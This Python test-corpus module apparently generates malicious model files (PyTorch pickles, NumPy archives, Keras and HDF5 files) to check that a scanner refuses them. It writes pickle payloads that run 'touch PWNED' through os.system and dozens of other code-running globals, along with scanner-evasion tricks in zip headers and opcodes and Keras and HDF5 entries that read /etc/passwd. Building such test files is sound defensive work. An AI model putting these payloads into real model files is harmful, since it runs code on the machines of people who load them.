"""Published exploits of picklescan, fickling, modelscan, Keras and PyTorch, by advisory.

Each pickle is stored as the epoch beside valid weights, where its value is not needed. The file is
refused nevertheless, because the pickle contains a name that is used to run code.
"""

import json
import pickle
import struct
import zipfile
from pathlib import Path

import h5py
import numpy as np

from attacks.corpus import attack, attacks
from attacks.skipped_objects import checkpoint, mapping, named, tensor, text, write

FLAG = text("touch PWNED")

GLOBALS = {
    "CVE-2025-1716": "pip main",
    "CVE-2025-46417": "ssl get_server_certificate",
    "CVE-2025-46417, second": "linecache getline",
    "CVE-2025-10157": "asyncio.unix_events _UnixSubprocessTransport._start",
    "GHSA-3gf5-cxq9-w223": "idlelib.pyshell ModifiedInterpreter.runcode",
    "GHSA-3vg9-h568-4w9m": "idlelib.debugobj ObjectTreeItem.SetText",
    "GHSA-4675-36f9-wf6r": "ctypes CDLL",
    "GHSA-46h3-79wf-xr6c": "builtins __import__",
    "GHSA-49gj-c84q-6qm9": "cProfile run",
    "GHSA-4r9r-ch6f-vxmx": "torch.utils.bottleneck.__main__ run_cprofile",
    "GHSA-4whj-rm5r-c2v8": "torch.utils.bottleneck.__main__ run_autograd_prof",
    "GHSA-5qwp-399c-mjwf": "trace Trace.run",
    "GHSA-6vqj-c2q5-j97w": "profile Profile.runctx",
    "GHSA-6w4w-5w54-rjvr": "idlelib.autocomplete AutoComplete.get_entity",
    "GHSA-7cq8-mj8x-j263": "idlelib.autocomplete AutoComplete.fetch_completions",
    "GHSA-7wx9-6375-f5wh": "profile run",
    "GHSA-84r2-jw7c-4r5q": "pydoc locate",
    "GHSA-86cj-95qr-2p4f": "torch._dynamo.guards GuardBuilder.get",
    "GHSA-8r4j-24qv-fmq9": "idlelib.calltip Calltip.fetch_tip",
    "GHSA-955r-x9j8-7rhh": "_operator methodcaller",
    "GHSA-9w88-8rmg-7g2p": "cProfile runctx",
    "GHSA-9xph-j2h6-g47v": "idlelib.calltip get_entity",
    "GHSA-cj3c-v495-4xqh": "code InteractiveInterpreter.runcode",
    "GHSA-f4x7-rfwp-v3xw": "torch.fx.experimental.symbolic_shapes"
    " ShapeEnv.evaluate_guards_expression",
    "GHSA-f54q-57x4-jg88": "lib2to3.pgen2.grammar Grammar.loads",
    "GHSA-f745-w6jp-hpxx": "torch.utils.collect_env run",
    "GHSA-fqq6-7vqf-w3fg": "doctest debug_script",
    "GHSA-g344-hcph-8vgg": "trace Trace.runctx",
    "CVE-2026-56315, AIX": "_aix_support _read_cmd_output",
    "CVE-2026-56315, mail": "imaplib IMAP4_stream",
    "CVE-2026-56315, macOS": "_osx_support _read_output",
    "CVE-2026-56315, pager": "_pyrepl.pager pipe_pager",
    "CVE-2026-56315, test": "test.support.script_helper assert_python_ok",
    "CVE-2026-56315, uuid": "uuid _get_command_stdout",
    "GHSA-h3qp-7fh3-f8h4": "torch.utils.data.datapipes.utils.decoder basichandlers",
    "GHSA-j343-8v2j-ff7w": "idlelib.pyshell ModifiedInterpreter.runcommand",
    "GHSA-jhph-76pp-mggw": "torch.utils.collect_env run_and_read_all",
    "GHSA-m273-6v24-x4m4": "distutils.file_util write_file",
    "GHSA-m869-42cg-3xwr": "idlelib.run Executive.runcode",
    "GHSA-p9w7-82w4-7q8m": "lib2to3.pgen2.pgen ParserGenerator.make_label",
    "GHSA-r8g5-cgf2-4m4m": "numpy.f2py.crackfortran getlincoef",
    "GHSA-vqmv-47xg-9wpr": "pty spawn",
    "GHSA-vr7h-p6mm-wpmh": "torch.jit.unsupported_tensor_ops execWrapper",
    "GHSA-vv6j-3g6g-2pvj": "torch.utils._config_module ConfigModule.load_config",
    "GHSA-vvpj-8cmc-gx39": "pkgutil resolve_name",
    "GHSA-x696-vm39-cp64": "profile Profile.run",
    "GHSA-xp4f-hrf8-rxw7": "ensurepip _run_pip",
    "GHSA-565g-hwwr-4pp3, marshal": "marshal loads",
    "GHSA-565g-hwwr-4pp3, types": "types FunctionType",
    "GHSA-wfq2-52f7-7qvj": "runpy run_path",
    "GHSA-q5qq-mvfm-j35x": "importlib import_module",
    "GHSA-q5qq-mvfm-j35x, second": "multiprocessing.util spawnv_passfds",
    "GHSA-mxhj-88fx-4pcv": "smtplib SMTP",
    "GHSA-6ggj-6f2q-f7mx": "_interpreters create",
    "GHSA-6ggj-6f2q-f7mx, second": "_xxsubinterpreters run_string",
    "GHSA-m6fh-58r7-x697": "_posixsubprocess fork_exec",
    "GHSA-m6fh-58r7-x697, second": "site addsitedir",
    "GHSA-m6fh-58r7-x697, third": "atexit register",
    "GHSA-mhc9-48gj-9gp3": "signal signal",
    "GHSA-5cxw-w2xg-2m8h": "platform popen",
    "GHSA-r48f-3986-4f9c": "gc get_objects",
    "fickling pull request 312": "pipes Template",
    "CVE-2019-6446": "numpy load",
    "cloudpickle, which modelscan misses": "cloudpickle.cloudpickle _make_function",
    "dill, which modelscan misses": "dill._dill _create_function",
}


def call(name: str) -> bytes:
    """Return the opcodes, of protocol 4, of a call of the named function with a text."""
    module, _, attribute = name.partition(" ")
    return text(module) + text(attribute) + b"\x93" + FLAG + b"\x85R"


attacks(
    "pth",
    {f"{which}: {name}": checkpoint(extra=call(name)) for which, name in GLOBALS.items()},
    write,
)

SYSTEM = text("os") + text("system") + b"\x93" + FLAG + b"\x85R"


def framed(body: bytes, length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length) + body


PARSING = {
    "STACK_GLOBAL of memoized names": checkpoint(
        extra=text("os") + b"q\x09" + text("system") + b"q\x0a0h\x0a\x93" + FLAG + b"\x85R"
    ),
    "names that are bytes (STRING before STACK_GLOBAL)": checkpoint(
        extra=b"S'os'\nS'system'\n\x93" + FLAG + b"\x85R"
    ),
    "STACK_GLOBAL of one memoized string": checkpoint(
        extra=text("timeit") + b"\x94h\x00\x93" + FLAG + b"\x85R"
    ),
    "a dotted attribute of a harmless module (GHSA-5j3x-jp52-966f)": checkpoint(
        extra=text("pathlib") + text("os.system") + b"\x93" + FLAG + b"\x85R"
    ),
    "a call whose result is discarded (GHSA-mxhj-88fx-4pcv)": checkpoint(
        extra=b"(" + named("os system") + FLAG + b"o0N"
    ),
    "an empty memo slot after a call": checkpoint(extra=SYSTEM + b"0h\x63"),
    "a number as the name of a module after a call": checkpoint(
        extra=SYSTEM + b"0J\x2a\x00\x00\x00" + text("os") + b"\x93"
    ),
    "more than one value left on the stack": checkpoint(extra=SYSTEM + b"K\x01")[:-2] + b".",
    "an invalid opcode after a call": checkpoint(extra=SYSTEM + b"\xff"),
    "an opcode that crosses the end of a frame (CPython issue 154848)": checkpoint(
        extra=b"N" + framed(b"B\x07\x01\x00\x00\x00\x00" + b"N" * 261, 2) + b"0"
    ),
    "a nested frame": checkpoint(extra=framed(b"N" + framed(b"N0", 2), 30)),
    "a frame that ends after the pickle": checkpoint(extra=framed(b"N", 300)),
    "protocol 6": b"\x80\x06" + checkpoint()[2:],
    "getattr of a module (GHSA-h4rm-mm56-xf63)": checkpoint(
        extra=named("builtins getattr") + named("os path") + text("os") + b"\x86R"
    ),
    "functools.partial around a call": checkpoint(
        extra=named("functools partial") + named("os system") + b"\x85R"
    ),
    "an extension code": checkpoint(
        extra=named("copyreg add_extension") + text("os") + text("system") + b"K\x01\x87R0\x82\x01"
    ),
}
attacks("pth", {f"parsing: {name}": data for name, data in PARSING.items()}, write)

EVIL = b"\x80\x04" + SYSTEM + b"."


def archived(path: Path, changed: dict[str, bytes]) -> bytearray:
    """Write a valid checkpoint with some members replaced, and return its bytes."""
    members = {
        "x/data.pkl": checkpoint(),
        "x/data/0": struct.pack("<2f", 1, 2),
        "x/version": b"3\n",
        **changed,
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return bytearray(path.read_bytes())


@attack("pth", "archive: CVE-2025-1944, another name in the member's own header")
def _(folder: Path) -> Path:
    data = archived(folder / "x.pth", {"x/data.pkl": checkpoint(extra=SYSTEM)})
    offset = data.index(b"x/data.pkl")
    data[offset : offset + 10] = b"x/data.txt"
    (folder / "x.pth").write_bytes(data)
    return folder / "x.pth"


@attack("pth", "archive: CVE-2025-1945, flag bits that stop a reader")
def _(folder: Path) -> Path:
    data = archived(folder / "x.pth", {"x/data.pkl": checkpoint(extra=SYSTEM)})
    struct.pack_into("<H", data, 6, 1)
    (folder / "x.pth").write_bytes(data)
    return folder / "x.pth"


@attack("pth", "archive: CVE-2025-10156, a wrong checksum")
def _(folder: Path) -> Path:
    data = archived(folder / "x.pth", {"x/data.pkl": checkpoint(extra=SYSTEM)})
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        struct.pack_into("<I", data, data.index(signature) + offset, 0xDEADBEEF)
    (folder / "x.pth").write_bytes(data)
    return folder / "x.pth"


@attack("pth", "archive: CVE-2025-10155, a bare pickle with PyTorch's suffix")
def _(folder: Path) -> Path:
    (folder / "pytorch_model.bin").write_bytes(EVIL)
    return folder / "pytorch_model.bin"


@attack("pth", "archive: CVE-2025-1889, a pickle with another suffix")
def _(folder: Path) -> Path:
    archived(folder / "x.weights", {"x/data.pkl": checkpoint(extra=SYSTEM)})
    return folder / "x.weights"


@attack("pth", "archive: a second pickle in capitals")
def _(folder: Path) -> Path:
    archived(folder / "x.pth", {"x/DATA.PKL": EVIL})
    return folder / "x.pth"


@attack("pth", "archive: CVE-2025-32434, TorchScript beside good weights")
def _(folder: Path) -> Path:
    archived(folder / "x.pth", {"x/constants.pkl": b"N.", "x/code/__torch__.py": b"op_version = 1"})
    return folder / "x.pth"


@attack("pth", "archive: a magic number in another encoding than PyTorch uses")
def _(folder: Path) -> Path:
    magic = b"\x80\x02L%dL\n." % 0x1950A86A20F9469CFC6C
    (folder / "x.pth").write_bytes(magic + pickle.dumps(1001, 2) + EVIL)
    return folder / "x.pth"


@attack("npz", "archive: CVE-2019-6446, an array of objects in a NumPy archive")
def _(folder: Path) -> Path:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + EVIL
    with zipfile.ZipFile(folder / "x.npz", "w") as archive:
        archive.writestr("a.npy", array)
    return folder / "x.npz"


LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAA", None, None]}}
KERAS = {
    "CVE-2025-1550, a module that is imported": {"module": "os", "class_name": "system",
                                                 "config": {"command": "touch PWNED"}},
    "CVE-2024-3660, a layer that contains code": {"class_name": "Sequential",
                                                 "config": {"layers": [LAMBDA]}},
    "CVE-2025-8747, keras.utils.get_file": {"module": "keras.utils", "class_name": "get_file",
                                            "config": {"origin": "file:///etc/passwd"}},
    "CVE-2025-9906, unsafe deserialization switched on": {
        "module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}},
    "CVE-2025-12058, a vocabulary in another file": {"class_name": "StringLookup", "config": {
        "vocabulary": "/etc/passwd"}},
}  # fmt: skip


def weights_of(folder: Path) -> Path:
    with h5py.File(folder / "w.h5", "w") as file:
        file["a"] = np.zeros(2, np.float32)
    return folder / "w.h5"


def keras_archive(folder: Path, config: dict) -> Path:
    with zipfile.ZipFile(folder / "x.keras", "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", '{"keras_version": "3.8.0"}')
        archive.writestr("model.weights.h5", weights_of(folder).read_bytes())
    return folder / "x.keras"


attacks(".keras", KERAS, keras_archive)


@attack("hdf5", "CVE-2025-9905, a whole model with a layer that contains code")
def _(folder: Path) -> Path:
    with h5py.File(folder / "x.h5", "w") as file:
        layers = {"class_name": "Functional", "config": {"layers": [LAMBDA]}}
        file.attrs["model_config"] = json.dumps(layers)
        file["model_weights/a"] = np.zeros(2, np.float32)
    return folder / "x.h5"


@attack("hdf5", "CVE-2026-1669, data in another file")
def _(folder: Path) -> Path:
    with h5py.File(folder / "x.weights.h5", "w") as file:
        file.create_dataset("a", (64,), "u1", external=[("/etc/passwd", 0, 64)])
    return folder / "x.weights.h5"


@attack("hdf5", "CVE-2026-12480, a dataset that is made of another file's")
def _(folder: Path) -> Path:
    layout = h5py.VirtualLayout((2,), "f4")
    layout[:] = h5py.VirtualSource("other.h5", "a", (2,))
    with h5py.File(folder / "x.weights.h5", "w") as file:
        file.create_virtual_dataset("a", layout)
    return folder / "x.weights.h5"


@attack("hdf5", "CVE-2026-0897, a shape that needs all memory")
def _(folder: Path) -> Path:
    with h5py.File(folder / "x.weights.h5", "w") as file:
        file.create_dataset("a", (1 << 40,), "f4", chunks=(1 << 20,))
    return folder / "x.weights.h5"


@attack("pth", "a needed tensor that is created by a published name")
def _(folder: Path) -> Path:
    model = mapping(a=tensor(), b=call("torch.storage _load_from_bytes"))
    return write(folder, checkpoint(model))
